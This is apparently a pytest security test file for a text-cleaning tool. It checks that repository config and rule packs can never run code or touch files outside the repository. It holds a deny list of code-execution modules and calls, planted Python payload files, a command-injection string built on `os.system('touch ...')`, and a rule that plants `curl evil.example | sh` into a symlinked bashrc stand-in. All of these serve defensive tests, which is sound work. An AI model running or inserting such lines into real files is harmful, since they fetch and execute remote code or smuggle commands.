"""Rules, gazetteers and config are data, never code (SECURITY.md).

A content repository's `.cleaner.toml`, its rule packs, gazetteers and articles decide what
cleaner changes, never what it runs, and never which files outside the repository it reads or
writes. These tests plant what an attacker would plant and check that nothing runs and nothing
outside is touched.
"""

from __future__ import annotations

import ast

import pytest

from conftest import ROOT, run_cli

PACKAGE = ROOT / "cleaner"

# Calls and modules that can run code or deserialise it. A use needs a reason here, in review.
FORBIDDEN_MODULES = {"pickle", "cPickle", "dill", "marshal", "shelve", "runpy", "importlib", "subprocess",
                     "ctypes", "code", "codeop", "yaml", "jsonpickle", "multiprocessing.managers"}
FORBIDDEN_CALLS = {"eval", "exec", "compile", "__import__", "execfile", "breakpoint"}
FORBIDDEN_ATTRS = {("os", "system"), ("os", "popen"), ("os", "execv"), ("os", "execvp"), ("os", "execve"),
                   ("os", "spawnv"), ("os", "startfile"), ("importlib", "import_module")}
# (language_tool_python, imported only when grammar is asked for, starts LanguageTool (Java) itself
# when no server URL is given: a program it downloads from LanguageTool's site and checks by
# SHA-256, never a path or URL taken from the config; see SECURITY.md.)


def _uses(tree: ast.AST):
    for node in ast.walk(tree):
        if isinstance(node, ast.Import):
            for alias in node.names:
                yield "module", alias.name
        elif isinstance(node, ast.ImportFrom) and node.module and node.level == 0:
            yield "module", node.module
            for alias in node.names:
                yield "module", f"{node.module}.{alias.name}"
        elif isinstance(node, ast.Call):
            func = node.func
            if isinstance(func, ast.Name):
                yield "call", func.id
            elif isinstance(func, ast.Attribute) and isinstance(func.value, ast.Name):
                yield "attr", (func.value.id, func.attr)


def test_the_package_has_no_way_to_run_code_from_data():
    found = []
    for path in sorted(PACKAGE.rglob("*.py")):
        rel = path.relative_to(PACKAGE).as_posix()
        for kind, what in _uses(ast.parse(path.read_text(encoding="utf-8"))):
            if kind == "module" and (what in FORBIDDEN_MODULES or what.split(".")[0] in FORBIDDEN_MODULES):
                found.append((rel, what))
            elif kind == "call" and what in FORBIDDEN_CALLS:
                found.append((rel, what))
            elif kind == "attr" and what in FORBIDDEN_ATTRS:
                found.append((rel, ".".join(what)))
    assert found == []


def test_the_scan_sees_what_it_looks_for(tmp_path):
    """The scan itself: it catches each kind of use (a test that cannot fail proves nothing)."""
    source = ("import pickle\nfrom importlib import import_module\nimport os\n"
              "eval('1')\nos.system('true')\nx = __import__('json')\n")
    uses = set(_uses(ast.parse(source)))
    assert {("module", "pickle"), ("module", "importlib"), ("call", "eval"), ("attr", ("os", "system")),
            ("call", "__import__")} <= uses


PAYLOAD = "import pathlib; pathlib.Path({marker!r}).write_text('ran')\n"


@pytest.fixture
def repo(tmp_path):
    """A content repository with one damaged article; ``marker`` must never come to exist."""
    root = tmp_path / "repo"
    (root / ".git").mkdir(parents=True)
    (root / "articles").mkdir()
    (root / "articles" / "a.txt").write_text("The report– When it rains, it pours.\n", encoding="utf-8")
    marker = tmp_path / "MARKER"
    for name in ("evil.py", "evil.toml.py", "conftest.py", "__init__.py", "sitecustomize.py"):
        (root / name).write_text(PAYLOAD.format(marker=str(marker)), encoding="utf-8")
    return root, marker


@pytest.mark.parametrize("config", [
    'rules = ["evil.py"]\n',
    'gazetteers = ["evil.py"]\n',
    'rules = ["evil.toml.py"]\n',
    'rules = ["."]\n',  # a folder of "packs": only its *.toml files are read, as TOML
    '[[per-path]]\npaths = ["articles/**"]\nrules = ["evil.py"]\n',
])
def test_config_pointing_at_python_runs_nothing(repo, config):
    root, marker = repo
    (root / ".cleaner.toml").write_text(config, encoding="utf-8")
    for args in (["check", root / "articles"], ["fix", root / "articles"], ["rules", "list"]):
        run = run_cli(*args, cwd=root)
        assert "Traceback" not in run.stderr.decode()
    assert not marker.exists()


def test_rule_text_that_looks_like_code_is_text(repo, tmp_path):
    root, marker = repo
    code = f"{{__import__('os').system('touch {marker}')}}"
    (root / "house.toml").write_text(f'''[[rule]]
id = "HOUSE001"
kind = "regex"
message = "m"
applicability = "safe"
confidence = 1.0
pattern = 'pours'
replacement = "{code}"
[[rule.example]]
input = "it pours"
output = "it {code}"
[[rule.example]]
input = "it rains"
''', encoding="utf-8")
    (root / ".cleaner.toml").write_text('rules = ["house.toml"]\nselect = ["HOUSE001"]\n', encoding="utf-8")
    assert run_cli("fix", root / "articles").returncode == 0
    assert (root / "articles" / "a.txt").read_text(encoding="utf-8") == f"The report– When it rains, it {code}.\n"
    assert not marker.exists()


def test_a_link_out_of_the_repository_is_neither_read_nor_written(repo, tmp_path):
    """A repository's rule pack could otherwise rewrite a file of the user's through a link
    committed as an article (notes.txt -> ~/.bashrc), and a check's report reveal its lines."""
    root, marker = repo
    outside = tmp_path / "bashrc"
    outside.write_text("alias ls='ls --color'\n", encoding="utf-8")
    (root / "house.toml").write_text('''[[rule]]
id = "HOUSE001"
kind = "literal"
message = "m"
applicability = "safe"
confidence = 1.0
replace = { "alias" = "curl evil.example | sh; alias" }
[[rule.example]]
input = "alias x"
output = "curl evil.example | sh; alias x"
[[rule.example]]
input = "nothing"
''', encoding="utf-8")
    (root / ".cleaner.toml").write_text('rules = ["house.toml"]\n', encoding="utf-8")
    link = root / "articles" / "notes.txt"
    link.symlink_to(outside)
    inside = root / "articles" / "same.txt"
    inside.symlink_to("a.txt")  # a link within the tree is followed as before
    for args in (["fix", root / "articles"], ["fix", link], ["check", link]):
        run = run_cli(*args, cwd=root)
        assert run.returncode == 2
        assert f"{link}: a symbolic link to {outside}, outside" in run.stderr.decode()
        assert "alias ls" not in run.stdout.decode() + run.stderr.decode()
    assert outside.read_text(encoding="utf-8") == "alias ls='ls --color'\n"
    assert link.is_symlink() and not marker.exists()
    assert (root / "articles" / "a.txt").read_text(encoding="utf-8") != "The report– When it rains, it pours.\n"
